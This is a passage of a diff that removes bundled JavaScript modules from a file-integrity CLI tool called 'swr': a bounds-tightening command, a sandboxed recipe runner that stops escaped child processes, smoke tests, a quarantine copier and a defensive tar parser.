  * `retighten`: raise loose tree bounds to what is on disk now, never loosening them. A tree's
@@ -21313,3241 +22224,6 @@ function applyRetighten(entries, changes) {
         const e = byId.get(c.id);
         if (e?.kind === 'tree')
             e.expect[c.field] = c.to;
-    }
-}
-
-;// CONCATENATED MODULE: ./src/cli/commands/author/retighten.ts
-/**
- * `swr retighten`: loose tree bounds let a partial wipe pass unnoticed. New bounds are taken only
- * from trees that verify now (they are checked first, like `swr check`), so a tree that is already
- * damaged never gets its damage written into its bounds. It edits an existing manifest only:
- * there is nothing to tighten in one that is not there yet.
- */
-
-
-
-
-
-
-
-
-function retightenCommand(flags, io) {
-    return withManifestLock(flags, io, async () => {
-        const m = await openForEdit(flags, io);
-        if (m.created)
-            throw new UsageError(`no manifest at ${m.file}: nothing to retighten`);
-        const trees = treesToRetighten(m.doc.body.entries, flags.only);
-        const findings = trees.length === 0
-            ? []
-            : (await checkManifest(loadManifest(m.file, { workspace: flags.workspace, cwd: io.cwd }), {
-                only: trees.map(t => t.id),
-                jobs: flags.jobs,
-                stateDir: stateDir(io),
-                version: VERSION,
-                command: 'retighten'
-            })).results;
-        const plan = planRetighten(trees, findings);
-        let saved;
-        if (plan.changes.length > 0) {
-            applyRetighten(m.doc.body.entries, plan.changes);
-            saved = await saveEdited(m.file, m.doc, { resign: m.resign, created: false }, io);
-        }
-        if (flags.json) {
-            printJson(io, {
-                schema: 'swr.retighten/1',
-                manifest: m.file,
-                trees: trees.length,
-                changes: plan.changes,
-                skipped: plan.skipped,
-                ...savedJson(saved)
-            });
-        }
-        else if (!flags.quiet) {
-            io.stdout.write(retightenText(plan.changes, plan.skipped, saved, m, trees.length));
-        }
-        return EXIT.HEALTHY;
-    });
-}
-function retightenText(changes, skipped, saved, m, trees) {
-    const out = changes.map(c => `tightened "${c.id}": ${c.field} ${c.from ?? 'none'} -> ${c.to}\n`);
-    for (const s of skipped)
-        out.push(`skipped "${s.id}": ${s.why}\n`);
-    if (saved)
-        out.push(signedLine(saved, m));
-    else
-        out.push(trees === 0
-            ? 'no tree entries: nothing to retighten; manifest unchanged\n'
-            : 'nothing to tighten: bounds already match what is on disk; manifest unchanged\n');
-    return out.join('');
-}
-
-;// CONCATENATED MODULE: ./src/cli/commands/author/register.ts
-
-
-
-
-
-
-
-function registerAuthorCommands(program, io, done, withGlobals) {
-    withGlobals(program.command('audit'))
-        .description('list untracked files and directories worth protecting, largest first, each with the "swr add" line that tracks it (read-only; volatile directories are skipped)')
-        .option('--limit <n>', `rows to show (default ${DEFAULT_AUDIT_LIMIT})`, intOption('--limit', 1, 1_000_000))
-        .action((flags) => done(auditCommand(flags, io)));
-    editing(withGlobals(program.command('autopilot')))
-        .description('create the manifest if there is none (never overwrites one), then track each top-level source tree, top-level script and large file not yet tracked; trees get marker sentinels and ignore volatile directories')
-        .action(async (flags) => done(await autopilotCommand(flags, io)));
-    editing(withGlobals(program.command('models')))
-        .description('list model files (.gguf .safetensors .onnx .bin .pt .pth .ckpt) of any size from --min-mb up, caches included, and whether each is tracked; --apply tracks the untracked ones as tier-3 blobs')
-        .option('--min-mb <n>', 'smallest model to list, in MiB (default 1)', intOption('--min-mb', 0, 16 * 1024 * 1024))
-        .option('--apply', 'track every untracked model listed as a blob entry (tier 3): size and head/tail digest, 2 MiB read per model')
-        .option('--full-hash', 'with --apply: also record each full sha256 for "check --deep" (reads every byte)')
-        .action(async (flags) => done(await modelsCommand(flags, io)));
-    editing(withGlobals(program.command('retighten')))
-        .description('raise loose tree bounds to the file count on disk now, never loosening them (min_files up, max_files down); trees that do not verify now are skipped')
-        .option('--only <id...>', 'retighten only these tree entries')
-        .action(async (flags) => done(await retightenCommand(flags, io)));
-    editing(withGlobals(program.command('preset')))
-        .description(`track the setup files of a common sandbox that exist and are not tracked yet, relative to the workspace (meant for ~/.swr/manifest.json describing $HOME); secrets become tier-0 file entries that are never escrowed. Presets: ${PRESETS.map(p => p.name).join(', ')}`)
-        .argument('[name]', 'preset to apply')
-        .option('--list', 'list the presets and their paths (with NAME: that preset only)')
-        .action(async (name, flags) => done(await presetCommand(name, flags, io)));
-}
-function editing(cmd) {
-    return cmd
-        .option('--approve-digest <digest>', 'edit a manifest whose signature does not verify, after reviewing exactly this content')
-        .option('--jobs <n>', 'hashing threads (default: cores)', intOption('--jobs', 1, 32))
-        .option('--lock-timeout <s>', 'give up waiting for another run after S seconds (default 300)', intOption('--lock-timeout', 0, 86400));
-}
-
-;// CONCATENATED MODULE: ./src/core/run/escaped.ts
-/**
- * Finding the processes a recipe started that left its process group (`setsid`, a daemonizing
- * server): each recipe runs with a random SWR_RUN_TOKEN in its environment, which children
- * inherit, and /proc tells which processes carry it. Linux only; elsewhere nothing is found.
- * A process that clears its own environment is not found either.
- */
-
-
-const RUN_TOKEN_VAR = 'SWR_RUN_TOKEN';
-function newRunToken() {
-    return (0,external_node_crypto_.randomBytes)(16).toString('hex');
-}
-/** Processes other than this one whose environment carries `token`. */
-function findTagged(token) {
-    const needle = Buffer.from(`${RUN_TOKEN_VAR}=${token}\0`);
-    let pids;
-    try {
-        pids = external_node_fs_default().readdirSync('/proc').filter(n => /^\d+$/.test(n));
-    }
-    catch {
-        return [];
-    }
-    const out = [];
-    for (const p of pids) {
-        const pid = Number(p);
-        if (pid === process.pid)
-            continue;
-        try {
-            const env = external_node_fs_default().readFileSync(`/proc/${p}/environ`);
-            if (!env.includes(needle))
-                continue;
-            const name = external_node_fs_default().readFileSync(`/proc/${p}/comm`, 'utf8').trim();
-            out.push({ pid, name });
-        }
-        catch {
-            // Gone, or not ours to read.
-        }
-    }
-    return out;
-}
-const escaped_sleep = (ms) => new Promise(r => setTimeout(r, ms));
-/**
- * Stop every process carrying `token`: SIGTERM, up to `graceMs` to go, then SIGKILL. Returns what
- * was found, for the report.
- */
-async function killTagged(token, graceMs) {
-    const found = findTagged(token);
-    if (found.length === 0)
-        return found;
-    const signal = (sig) => {
-        for (const p of found) {
-            try {
-                process.kill(p.pid, sig);
-            }
-            catch {
-                // Already gone.
-            }
-        }
-    };
-    signal('SIGTERM');
-    const deadline = Date.now() + graceMs;
-    while (Date.now() < deadline && findTagged(token).length > 0)
-        await escaped_sleep(50);
-    signal('SIGKILL');
-    // A zombie keeps its environ readable until reaped; SIGKILL is enough, do not wait on it.
-    return found;
-}
-
-;// CONCATENATED MODULE: external "node:string_decoder"
-const external_node_string_decoder_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:string_decoder");
-;// CONCATENATED MODULE: ./src/core/run/output.ts
-/**
- * Recipe output handling: split each stream into lines on its own (stdout and stderr interleave,
- * and a secret must never be cut in two by the other stream), decode UTF-8 across chunk
- * boundaries, and keep a bounded tail measured in bytes, in constant time per line.
- */
-
-/** Feed chunks of one stream; whole lines go to `onLine`; `end` flushes the last partial line. */
-function lineSplitter(onLine, maxLine) {
-    const decoder = new external_node_string_decoder_namespaceObject.StringDecoder('utf8');
-    let partial = '';
-    const take = (text) => {
-        const lines = (partial + text).split('\n');
-        partial = lines.pop() ?? '';
-        for (const l of lines)
-            onLine(l);
-        if (partial.length > maxLine) {
-            onLine(partial);
-            partial = '';
-        }
-    };
-    return {
-        push: chunk => take(decoder.write(chunk)),
-        end: () => {
-            take(decoder.end());
-            if (partial)
-                onLine(partial);
-            partial = '';
-        }
-    };
-}
-/** The last `maxBytes` bytes of output, kept as whole lines. */
-function tailKeeper(maxBytes) {
-    const lines = [];
-    const sizes = [];
-    let head = 0;
-    let bytes = 0;
-    let cut = false;
-    return {
-        add(line) {
-            let l = line + '\n';
-            let n = Buffer.byteLength(l);
-            if (n > maxBytes) {
-                // One line longer than the whole budget: keep its end.
-                l = Buffer.from(l)
-                    .subarray(n - maxBytes)
-                    .toString('utf8')
-                    .replace(/^\uFFFD+/, '');
-                n = Buffer.byteLength(l);
-                cut = true;
-            }
-            lines.push(l);
-            sizes.push(n);
-            bytes += n;
-            while (bytes > maxBytes && head < lines.length) {
-                bytes -= sizes[head] ?? 0;
-                head++;
-                cut = true;
-            }
-            if (head > 1024 && head * 2 > lines.length) {
-                lines.splice(0, head);
-                sizes.splice(0, head);
-                head = 0;
-            }
-        },
-        text: () => lines.slice(head).join(''),
-        truncated: () => cut
-    };
-}
-
-;// CONCATENATED MODULE: ./src/core/run/recipe.ts
-/**
- * Running one recipe: a non-login shell in the workspace, in its own process group, with a minimal
- * environment. A timeout, an abort (Ctrl-C of swr) or the end of the recipe stops the whole group,
- * SIGTERM first and SIGKILL after a grace period, so no grandchild (git, curl, cmake) outlives it.
- * A process that left the group (`setsid`) is found by the run token in its environment, stopped
- * and reported; and once the recipe's own process has exited, swr waits at most a grace period
- * for the output pipes such a process may hold open.
- * Output is split into lines, scrubbed, streamed to `onLine`, and kept bounded for the report.
- */
-
-
-
-const KEEP_BYTES = 64 * 1024;
-const DEFAULT_GRACE_MS = 3000;
-const BASE_ENV_NAMES = ['PATH', 'HOME', 'LANG', 'TMPDIR'];
-/** PATH, HOME, LANG, TMPDIR and the named variables, taken from `from` when set there. */
-function minimalEnv(from, names) {
-    const env = {};
-    for (const n of [...BASE_ENV_NAMES, ...names]) {
-        const v = from[n];
-        if (v !== undefined)
-            env[n] = v;
-    }
-    env.PATH ??= '/usr/local/bin:/usr/bin:/bin';
-    return env;
-}
-function killGroup(pid, signal) {
-    try {
-        process.kill(-pid, signal);
-    }
-    catch {
-        // Already gone.
-    }
-}
-function runRecipe(spec, hooks) {
-    const started = performance.now();
-    const [cmd, ...args] = spec.shell;
-    const token = newRunToken();
-    const unusable = [cmd, ...args, spec.command, spec.cwd, ...Object.entries(spec.env).flat()].find(v => v?.includes('\0'));
-    // spawn() throws on a NUL byte; the validator refuses them at load, and this refuses the rest.
-    if (unusable !== undefined)
-        return Promise.resolve(notStarted(spec, 'a NUL byte in its command, shell, directory or environment'));
-    return new Promise(resolve => {
-        const child = (0,external_node_child_process_.spawn)(cmd ?? 'bash', [...args, spec.command], {
-            cwd: spec.cwd,
-            env: { ...spec.env, [RUN_TOKEN_VAR]: token },
-            detached: true, // its own process group, so the whole group can be stopped
-            stdio: ['ignore', 'pipe', 'pipe']
-        });
-        const kept = tailKeeper(KEEP_BYTES);
-        let timedOut = false;
-        let interrupted = false;
-        let exited;
-        const emit = (line) => {
-            const clean = hooks.scrub(line);
-            hooks.onLine?.(spec.id, clean);
-            kept.add(clean);
-        };
-        // Each stream is split on its own: interleaved stderr must not cut a stdout line in two.
-        const out = lineSplitter(emit, KEEP_BYTES);
-        const err = lineSplitter(emit, KEEP_BYTES);
-        child.stdout.on('data', out.push);
-        child.stderr.on('data', err.push);
-        const grace = spec.graceMs ?? DEFAULT_GRACE_MS;
-        let killer;
-        const stop = () => {
-            if (child.pid === undefined || killer)
-                return;
-            killGroup(child.pid, 'SIGTERM');
-            killer = setTimeout(() => killGroup(child.pid, 'SIGKILL'), grace);
-        };
-        const timer = setTimeout(() => {
-            timedOut = true;
-            stop();
-        }, spec.timeoutMs);
-        const onAbort = () => {
-            interrupted = true;
-            stop();
-        };
-        hooks.abort?.addEventListener('abort', onAbort, { once: true });
-        if (hooks.abort?.aborted)
-            onAbort();
-        let finished = false;
-        let pipeTimer;
-        const finish = async () => {
-            if (finished)
-                return;
-            finished = true;
-            clearTimeout(timer);
-            clearTimeout(pipeTimer);
-            // Nothing of the group may outlive the recipe: what ignored SIGTERM gets SIGKILL before we
-            // return, not on a timer that a finished swr would never fire.
-            if (child.pid !== undefined)
-                await reapGroup(child.pid, grace);
-            if (killer)
-                clearTimeout(killer);
-            const escaped = await killTagged(token, Math.min(grace, 1000));
-            if (escaped.length > 0)
-                emit(`swr: stopped ${escaped.length} process(es) that left the recipe's process group: ${escaped
-                    .map(p => `${p.pid} (${p.name})`)
-                    .join(', ')}`);
-            child.stdout.destroy();
-            child.stderr.destroy();
-            hooks.abort?.removeEventListener('abort', onAbort);
-            out.end();
-            err.end();
-            resolve({
-                id: spec.id,
-                exitCode: exited?.code ?? null,
-                signal: exited?.signal ?? null,
-                timedOut,
-                interrupted,
-                ms: Math.round(performance.now() - started),
-                output: kept.text(),
-                truncated: kept.truncated(),
-                escaped
-            });
-        };
-        child.on('error', err => {
-            emit(`cannot start ${cmd ?? 'bash'}: ${err.message}`);
-            exited = { code: 127, signal: null };
-            void finish();
-        });
-        child.on('exit', (code, signal) => {
-            exited = { code, signal };
-            // Background processes the recipe left behind go with it (and release the output pipes).
-            if (child.pid !== undefined && groupAlive(child.pid))
-                stop();
-            // A process outside the group may hold the pipes open for ever: stop waiting for them.
-            pipeTimer = setTimeout(() => void finish(), grace + 500);
-        });
-        child.on('close', () => void finish());
-    });
-}
-function notStarted(spec, why) {
-    const line = `cannot start: ${why}`;
-    return {
-        id: spec.id,
-        exitCode: 127,
-        signal: null,
-        timedOut: false,
-        interrupted: false,
-        ms: 0,
-        output: `${line}\n`,
-        truncated: false,
-        escaped: [],
-        startError: why
-    };
-}
-function groupAlive(pgid) {
-    try {
-        process.kill(-pgid, 0);
-        return true;
-    }
-    catch {
-        return false;
-    }
-}
-/**
- * End the process group: SIGTERM, wait up to `grace` for it to go, then SIGKILL. (A group of
- * zombies that nobody reaps still answers signal 0; SIGKILL is then harmless.)
- */
-async function reapGroup(pgid, grace) {
-    if (!groupAlive(pgid))
-        return;
-    killGroup(pgid, 'SIGTERM');
-    const deadline = Date.now() + grace;
-    while (groupAlive(pgid) && Date.now() < deadline)
-        await new Promise(r => setTimeout(r, 25));
-    killGroup(pgid, 'SIGKILL');
-}
-/** One line for a person: "exit 0 in 1.2 s", "timed out after 30 s", ... */
-function describeResult(r, timeoutMs) {
-    return describeEnd(r, timeoutMs) + describeEscaped(r.escaped);
-}
-function describeEnd(r, timeoutMs) {
-    const secs = (r.ms / 1000).toFixed(1);
-    if (r.startError)
-        return `not started: ${r.startError}`;
-    if (r.interrupted)
-        return `interrupted after ${secs} s`;
-    if (r.timedOut)
-        return `timed out after ${Math.round(timeoutMs / 1000)} s (process group killed)`;
-    if (r.signal)
-        return `killed by ${r.signal} after ${secs} s`;
-    return `exit ${r.exitCode ?? '?'} in ${secs} s`;
-}
-function describeEscaped(escaped) {
-    if (escaped.length === 0)
-        return '';
-    const names = [...new Set(escaped.map(p => p.name.replace(/[^\w.+-]/g, '?')))].slice(0, 5);
-    return `; stopped ${escaped.length} process(es) that left its process group (${names.join(', ')})`;
-}
-
-;// CONCATENATED MODULE: ./src/core/smoke.ts
-
-
-
-const SMOKE_TIMEOUT_S = 60;
-async function runSmokes(m, findings, gate, callerEnv, abort) {
-    if (!gate.allowed)
-        return { findings, smoke: { allowed: false, reason: gate.reason, results: [] } };
-    const entries = new Map(m.body.entries.map(e => [e.id, e]));
-    const results = [];
-    const out = [];
-    for (const f of findings) {
-        const e = entries.get(f.id);
-        if (!e)
-            throw new InternalError(`finding for unknown entry ${f.id}`);
-        if (f.status !== 'OK' || !e.smoke || abort?.aborted) {
-            out.push(f);
-            continue;
-        }
-        const secrets = (e.secret_env ?? [])
-            .map(n => callerEnv[n])
-            .filter((v) => v !== undefined);
-        const r = await runRecipe({
-            id: e.id,
-            command: e.smoke,
-            shell: m.body.shell ?? ['bash', '-c'],
-            cwd: m.workspace,
-            env: minimalEnv(callerEnv, [...(e.env ?? []), ...(e.secret_env ?? [])]),
-            timeoutMs: SMOKE_TIMEOUT_S * 1000
-        }, { abort, scrub: makeScrubber(secrets) });
-        const detail = `smoke ${describeResult(r, SMOKE_TIMEOUT_S * 1000)}`;
-        const passed = r.exitCode === 0 && !r.timedOut && !r.interrupted;
-        results.push({
-            id: e.id,
-            outcome: passed ? 'passed' : 'failed',
-            detail,
-            ...(passed ? {} : { output: r.output.slice(-4096) })
-        });
-        out.push(passed ? f : { ...f, status: 'SMOKEFAIL', reason: 'smoke', detail });
-    }
-    return { findings: out, smoke: { allowed: true, reason: gate.reason, results } };
-}
-
-;// CONCATENATED MODULE: ./node_modules/yocto-queue/index.js
-/*
-How it works:
-`this.#head` is an instance of `Node` which keeps track of its current value and nests another instance of `Node` that keeps the value that comes after it. When a value is provided to `.enqueue()`, the code needs to iterate through `this.#head`, going deeper and deeper to find the last value. However, iterating through every single item is slow. This problem is solved by saving a reference to the last value as `this.#tail` so that it can reference it to add a new value.
-*/
-
-class Node {
-	value;
-	next;
-
-	constructor(value) {
-		this.value = value;
-	}
-}
-
-class Queue {
-	#head;
-	#tail;
-	#size;
-
-	constructor() {
-		this.clear();
-	}
-
-	enqueue(value) {
-		const node = new Node(value);
-
-		if (this.#head) {
-			this.#tail.next = node;
-			this.#tail = node;
-		} else {
-			this.#head = node;
-			this.#tail = node;
-		}
-
-		this.#size++;
-	}
-
-	dequeue() {
-		const current = this.#head;
-		if (!current) {
-			return;
-		}
-
-		this.#head = this.#head.next;
-		this.#size--;
-
-		// Clean up tail reference when queue becomes empty
-		if (!this.#head) {
-			this.#tail = undefined;
-		}
-
-		return current.value;
-	}
-
-	peek() {
-		if (!this.#head) {
-			return;
-		}
-
-		return this.#head.value;
-
-		// TODO: Node.js 18.
-		// return this.#head?.value;
-	}
-
-	clear() {
-		this.#head = undefined;
-		this.#tail = undefined;
-		this.#size = 0;
-	}
-
-	get size() {
-		return this.#size;
-	}
-
-	* [Symbol.iterator]() {
-		let current = this.#head;
-
-		while (current) {
-			yield current.value;
-			current = current.next;
-		}
-	}
-
-	* drain() {
-		while (this.#head) {
-			yield this.dequeue();
-		}
-	}
-}
-
-;// CONCATENATED MODULE: ./node_modules/p-limit/index.js
-
-
-function pLimit(concurrency) {
-	let rejectOnClear = false;
-
-	if (typeof concurrency === 'object') {
-		({concurrency, rejectOnClear = false} = concurrency);
-	}
-
-	validateConcurrency(concurrency);
-
-	if (typeof rejectOnClear !== 'boolean') {
-		throw new TypeError('Expected `rejectOnClear` to be a boolean');
-	}
-
-	const queue = new Queue();
-	let activeCount = 0;
-
-	const resumeNext = () => {
-		// Process the next queued function if we're under the concurrency limit
-		if (activeCount < concurrency && queue.size > 0) {
-			activeCount++;
-			queue.dequeue().run();
-		}
-	};
-
-	const next = () => {
-		activeCount--;
-		resumeNext();
-	};
-
-	const run = async (function_, resolve, arguments_) => {
-		// Execute the function and capture the result promise
-		const result = (async () => function_(...arguments_))();
-
-		// Resolve immediately with the promise (don't wait for completion)
-		resolve(result);
-
-		// Wait for the function to complete (success or failure)
-		// We catch errors here to prevent unhandled rejections,
-		// but the original promise rejection is preserved for the caller
-		try {
-			await result;
-		} catch {}
-
-		// Decrement active count and process next queued function
-		next();
-	};
-
-	const enqueue = (function_, resolve, reject, arguments_) => {
-		const queueItem = {reject};
-
-		// Queue the internal resolve function instead of the run function
-		// to preserve the asynchronous execution context.
-		new Promise(internalResolve => { // eslint-disable-line promise/param-names
-			queueItem.run = internalResolve;
-			queue.enqueue(queueItem);
-		}).then(run.bind(undefined, function_, resolve, arguments_)); // eslint-disable-line promise/prefer-await-to-then
-
-		// Start processing immediately if we haven't reached the concurrency limit
-		if (activeCount < concurrency) {
-			resumeNext();
-		}
-	};
-
-	const generator = (function_, ...arguments_) => new Promise((resolve, reject) => {
-		enqueue(function_, resolve, reject, arguments_);
-	});
-
-	Object.defineProperties(generator, {
-		activeCount: {
-			get: () => activeCount,
-		},
-		pendingCount: {
-			get: () => queue.size,
-		},
-		clearQueue: {
-			value() {
-				if (!rejectOnClear) {
-					queue.clear();
-					return;
-				}
-
-				const abortError = AbortSignal.abort().reason;
-
-				while (queue.size > 0) {
-					queue.dequeue().reject(abortError);
-				}
-			},
-		},
-		concurrency: {
-			get: () => concurrency,
-
-			set(newConcurrency) {
-				validateConcurrency(newConcurrency);
-				concurrency = newConcurrency;
-
-				queueMicrotask(() => {
-					// eslint-disable-next-line no-unmodified-loop-condition
-					while (activeCount < concurrency && queue.size > 0) {
-						resumeNext();
-					}
-				});
-			},
-		},
-		map: {
-			async value(iterable, function_) {
-				const promises = [];
-
-				try {
-					Array.from(iterable, (value, index) => {
-						const promise = generator(function_, value, index);
-						promises.push(promise);
-						return promise;
-					});
-				} catch (error) {
-					// The iterable threw, so `Promise.all` never observes the already scheduled promises. Observe them here to avoid unhandled rejections.
-					for (const promise of promises) {
-						promise.catch(() => {}); // eslint-disable-line promise/prefer-await-to-then
-					}
-
-					throw error;
-				}
-
-				return Promise.all(promises);
-			},
-		},
-	});
-
-	return generator;
-}
-
-function limitFunction(function_, options) {
-	const limit = pLimit(options);
-
-	const limitedFunction = (...arguments_) => limit(() => function_(...arguments_));
-	Object.defineProperty(limitedFunction, 'clearQueue', {
-		value: limit.clearQueue,
-	});
-
-	return limitedFunction;
-}
-
-function validateConcurrency(concurrency) {
-	if (!((Number.isInteger(concurrency) || concurrency === Number.POSITIVE_INFINITY) && concurrency > 0)) {
-		throw new TypeError('Expected `concurrency` to be a number from 1 and up');
-	}
-}
-
-;// CONCATENATED MODULE: ./src/core/quarantine.ts
-/**
- * Quarantine: before a recipe runs, copy (never move) the damaged file or tree into the private
- * state directory, so the evidence survives and in-place repairs (`chmod +x`) still find their
- * file. Bounded in size; symlinks are copied as links, never followed, and the entry's path is
- * resolved without following a symlink in any component (a symlinked parent is refused, not
- * copied through). The folder name comes from a prefix and the id (ids cannot contain "/"), so no
- * id can place the copy elsewhere.
- *
- * The quarantine is pruned after every copy: copies older than the age limit go, then the oldest
- * others until the whole quarantine fits the size limit (the copy just made always stays).
- */
-
-
-
-
-
-const QUARANTINE_MAX_BYTES = 256 * 1024 * 1024;
-/** Defaults of the pruning limits (SWR_QUARANTINE_KEEP_DAYS, SWR_QUARANTINE_MAX_MB). */
-const QUARANTINE_KEEP_DAYS = 7;
-const QUARANTINE_TOTAL_BYTES = 1024 * 1024 * 1024;
-function sizeOf(abs, limit) {
-    const st = external_node_fs_default().lstatSync(abs);
-    if (!st.isDirectory())
-        return st.isFile() ? st.size : 0;
-    let total = 0;
-    for (const name of external_node_fs_default().readdirSync(abs)) {
-        total += sizeOf(external_node_path_default().join(abs, name), limit - total);
-        if (total > limit)
-            return total;
-    }
-    return total;
-}
-function quarantine(workspace, stateDir, e, now, limits = {}) {
-    const maxBytes = limits.maxBytes ?? QUARANTINE_MAX_BYTES;
-    let abs;
-    try {
-        abs = resolveNoFollow(workspace, e.path);
-    }
-    catch (err) {
-        if (err instanceof SymlinkRefusal)
-            return { skipped: `not copied: ${err.message}` };
-        throw err;
-    }
-    if (!external_node_fs_default().lstatSync(abs, { throwIfNoEntry: false }))
-        return { skipped: 'nothing on disk to keep' };
-    const bytes = sizeOf(abs, maxBytes);
-    if (bytes > maxBytes)
-        return { skipped: `over the ${maxBytes}-byte quarantine limit` };
-    const stamp = now.toISOString().replace(/[:.]/g, '-');
-    const dir = ensurePrivateDir(stateDir, 'quarantine', `${stamp}-${(0,external_node_crypto_.randomBytes)(4).toString('hex')}`);
-    const dest = external_node_path_default().join(dir, `entry-${e.id}`);
-    external_node_fs_default().cpSync(abs, dest, {
-        recursive: true,
-        verbatimSymlinks: true,
-        errorOnExist: true,
-        force: false,
-        preserveTimestamps: true
-    });
-    const pruned = pruneQuarantine(stateDir, now, limits, dir);
-    return pruned.removed > 0 ? { copied: dest, bytes, pruned } : { copied: dest, bytes };
-}
-/**
- * Remove quarantined copies older than `keepMs`, then the oldest until the rest fit `totalBytes`;
- * `keep` (the copy just made) is never removed. Ages come from each copy's folder time.
- */
-function pruneQuarantine(stateDir, now, limits = {}, keep) {
-    const root = external_node_path_default().join(stateDir, 'quarantine');
-    const keepMs = limits.keepMs ?? QUARANTINE_KEEP_DAYS * 86_400_000;
-    const totalBytes = limits.totalBytes ?? QUARANTINE_TOTAL_BYTES;
-    const copies = (external_node_fs_default().existsSync(root) ? external_node_fs_default().readdirSync(root) : [])
-        .map(name => {
-        const abs = external_node_path_default().join(root, name);
-        const st = external_node_fs_default().lstatSync(abs);
-        return { abs, isDir: st.isDirectory(), mtimeMs: st.mtimeMs };
-    })
-        .filter(c => c.isDir && c.abs !== keep)
-        .map(c => ({ ...c, bytes: sizeOf(c.abs, Number.MAX_SAFE_INTEGER) }))
-        .sort((a, b) => a.mtimeMs - b.mtimeMs);
-    let total = copies.reduce((n, c) => n + c.bytes, keep ? sizeOf(keep, Number.MAX_SAFE_INTEGER) : 0);
-    const out = { removed: 0, bytes: 0 };
-    for (const c of copies) {
-        if (now.getTime() - c.mtimeMs <= keepMs && total <= totalBytes)
-            continue;
-        external_node_fs_default().rmSync(c.abs, { recursive: true, force: true });
-        total -= c.bytes;
-        out.removed++;
-        out.bytes += c.bytes;
-    }
-    return out;
-}
-
-;// CONCATENATED MODULE: ./src/core/cache-port.ts
-/**
- * The Actions cache as a restore source, seen from the engine: a port the shells fill with the
- * real cache service when it is reachable. The port only finds and streams an archive; it never
- * unpacks one. The engine extracts it itself into a private scratch directory, proves it against
- * the signed manifest while extracting, and only then places it (see cache-restore/), so a
- * partial, stale or poisoned cache can neither pass for the recorded state nor write anywhere.
- */
-
-
-/**
- * The key under which an entry's verified state is saved: its id plus the digest of its signed
- * expectations. Another state of the entry (or another manifest's entry) has another key.
- */
-function stateKey(e) {
-    const digest = (0,external_node_crypto_.createHash)('sha256').update(canonicalBytes(e)).digest('hex');
-    return `swr-v1-${e.id}-${digest.slice(0, 32)}`;
-}
-
-;// CONCATENATED MODULE: ./src/core/cache-restore/rejected.ts
-/** Why a cache archive was refused: one line, ready for the report (names are escaped by the caller). */
-class Rejected extends Error {
-    constructor(message) {
-        super(message);
-        this.name = 'Rejected';
-    }
-}
-
-;// CONCATENATED MODULE: ./src/core/cache-restore/tar-reader.ts
-/**
- * A push parser for the tar archives the Actions cache holds (POSIX pax as `tar --posix` writes
- * them, plain ustar, and GNU long names). It only reads: every member is handed to a sink that
- * decides where, or whether, its bytes go, so nothing here can write outside what the sink allows.
- * Any malformed header, unknown member type or early end is a Rejected with a one-line reason.
- */
-
-const BLOCK = 512;
-/** pax and GNU long-name records larger than this are refused (real ones are a few hundred bytes). */
-const MAX_META = 1024 * 1024;
-const FLAG_NAMES = {
-    '3': 'character device',
-    '4': 'block device',
-    '6': 'FIFO'
-};
-function flagName(flag) {
-    return FLAG_NAMES[flag] ?? `type ${JSON.stringify(flag)}`;
-}
-function cstr(b, start, len) {
-    const end = b.indexOf(0, start);
-    return b.toString('utf8', start, end === -1 || end > start + len ? start + len : end);
-}
-function tar_reader_octal(b, start, len, what) {
-    // GNU base-256: the high bit of the first byte set (sizes of 8 GiB and more).
-    if ((b[start] ?? 0) & 0x80) {
-        let n = (b[start] ?? 0) & 0x7f;
-        for (let i = start + 1; i < start + len; i++)
-            n = n * 256 + (b[i] ?? 0);
-        if (!Number.isSafeInteger(n))
-            throw new Rejected(`malformed archive: ${what} out of range`);
-        return n;
-    }
-    const text = cstr(b, start, len).trim();
-    if (text === '')
-        return 0;
-    if (!/^[0-7]+$/.test(text))
-        throw new Rejected(`malformed archive: ${what} is not octal`);
-    return parseInt(text, 8);
-}
-function checksumOk(h) {
-    let sum = 0;
-    for (let i = 0; i < BLOCK; i++)
-        sum += i >= 148 && i < 156 ? 32 : (h[i] ?? 0);
-    return tar_reader_octal(h, 148, 8, 'checksum') === sum;
-}
-function parsePax(body) {
-    const out = new Map();
-    let at = 0;
-    while (at < body.length) {
-        const space = body.indexOf(0x20, at);
-        const len = space === -1 ? NaN : Number(body.toString('ascii', at, space));
-        if (!Number.isSafeInteger(len) || len <= 0 || at + len > body.length)
-            throw new Rejected('malformed archive: bad pax record');
-        const rec = body.toString('utf8', space + 1, at + len - 1);
-        const eq = rec.indexOf('=');
-        if (eq <= 0)
-            throw new Rejected('malformed archive: bad pax record');
-        out.set(rec.slice(0, eq), rec.slice(eq + 1));
-        at += len;
-    }
-    return out;
-}
-class TarReader {
-    handlers;
-    state = { kind: 'header' };
-    partial;
-    pax = new Map();
-    longName;
-    longLink;
-    zeroBlocks = 0;
-    constructor(handlers) {
-        this.handlers = handlers;
-    }
-    /** True once the end-of-archive blocks were read: the rest of the stream is not needed. */
-    get done() {
-        return this.state.kind === 'end';
-    }
-    /** The stream ended: anything but a complete archive is a truncated one. */
-    finish() {
-        if (this.state.kind !== 'end' && !(this.state.kind === 'header' && this.zeroBlocks >= 1))
-            throw new Rejected('truncated archive');
-    }
-    write(chunk) {
-        let buf = chunk;
-        if (this.partial) {
-            buf = Buffer.concat([this.partial, chunk]);
-            this.partial = undefined;
-        }
-        let at = 0;
-        while (at < buf.length && this.state.kind !== 'end') {
-            const s = this.state;
-            if (s.kind === 'header') {
-                if (buf.length - at < BLOCK) {
-                    this.partial = Buffer.from(buf.subarray(at));
-                    return;
-                }
-                this.header(buf.subarray(at, at + BLOCK));
-                at += BLOCK;
-            }
-            else if (s.kind === 'body') {
-                const n = Math.min(s.left, buf.length - at);
-                if (n > 0)
-                    s.sink?.write(buf.subarray(at, at + n));
-                s.left -= n;
-                at += n;
-                if (s.left === 0) {
-                    s.sink?.end();
-                    this.state = s.pad > 0 ? { kind: 'pad', left: s.pad } : { kind: 'header' };
-                }
-            }
-            else if (s.kind === 'meta') {
-                const n = Math.min(s.left, buf.length - at);
-                s.parts.push(Buffer.from(buf.subarray(at, at + n)));
-                s.left -= n;
-                at += n;
-                if (s.left === 0) {
-                    this.meta(s.flag, Buffer.concat(s.parts));
-                    this.state = s.pad > 0 ? { kind: 'pad', left: s.pad } : { kind: 'header' };
-                }
-            }
-            else if (s.kind === 'pad') {
-                const n = Math.min(s.left, buf.length - at);
-                s.left -= n;
-                at += n;
-                if (s.left === 0)
-                    this.state = { kind: 'header' };
-            }
-        }
-    }
-    header(h) {
-        if (h.every(b => b === 0)) {
-            if (++this.zeroBlocks >= 2)
-                this.state = { kind: 'end' };
-            return;
-        }
-        if (this.zeroBlocks > 0)
